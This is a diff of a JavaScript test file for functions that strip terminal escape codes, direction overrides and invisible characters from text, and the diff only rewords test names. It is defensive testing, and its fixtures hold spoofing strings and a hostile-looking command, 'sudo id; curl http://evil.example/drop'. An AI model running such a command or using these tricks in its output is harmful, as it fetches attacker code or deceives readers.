@@ -15,15 +15,15 @@ test.each([
   ['letters that look like spaces', 'Pass\u3164\u2800\u115fRisky', 'Pass Risky'],
   ['a line that overwrites itself', 'Risky\rPass', 'Risky Pass'],
   ['a reversed direction', 'photo\u202egpj.exe', 'photogpj.exe'],
-  ['characters of no width', 'pay\u200bpal\ufeff', 'paypal'],
-  ['spaces around what is not seen', 'a \u200b b', 'a b'],
+  ['characters without width', 'pay\u200bpal\ufeff', 'paypal'],
+  ['spaces around invisible characters', 'a \u200b b', 'a b'],
   ['several lines', ' one\n\n\ttwo\u2028three ', 'one two three'],
-])('%s do not get through', (_case, text, shown) => {
+])('the output is harmless for %s', (_case, text, shown) => {
   expect(printable(text)).toBe(shown);
 });
 
 test.each(['\u001b]', '\u001bP', '\u001b_', '\u009d', '\u001b[', '\u001b[31m'])(
-  'nothing that can be seen is left out between %j and an end',
+  'no visible text is lost between %j and a terminator',
   (begin) => {
     const deed = 'sudo id; curl http://evil.example/drop';
     for (const end of ['\u0007', '\u001b\\', '\u009c', 'm']) {
@@ -46,7 +46,7 @@ test('ordinary text of any script stays as it is', () => {
   }
 });
 
-test('whatever comes in, one visible line comes out', () => {
+test('any input becomes one visible line', () => {
   fc.assert(
     fc.property(fc.string({ unit: 'binary' }), (text) => {
       expect(printable(text)).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
@@ -54,7 +54,7 @@ test('whatever comes in, one visible line comes out', () => {
   );
 });
 
-test('what is printable already does not change', () => {
+test('text that is already printable does not change', () => {
   fc.assert(
     fc.property(fc.string({ unit: 'binary' }), (text) => {
       expect(printable(printable(text))).toBe(printable(text));
@@ -62,7 +62,7 @@ test('what is printable already does not change', () => {
   );
 });
 
-test('of a text whose lines mean something, lines and indentation stay, and nothing that acts on a terminal', () => {
+test('printableLines keeps line breaks and indentation, and drops whatever acts on a terminal', () => {
   const text = 'if a:\r\n\tb  = 1 \n  c\td\u001b[2J\u202e\rnext\u2028last\n';
   expect(printableLines(text)).toEqual([
     'if a:',
@@ -74,7 +74,7 @@ test('of a text whose lines mean something, lines and indentation stay, and noth
   ]);
 });
 
-test('whatever comes in, each line that comes out is visible', () => {
+test('any input becomes visible lines', () => {
   fc.assert(
     fc.property(fc.string({ unit: 'binary' }), (text) => {
       expect(printableLines(text).join('')).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Zl}\p{Zp}]/u);
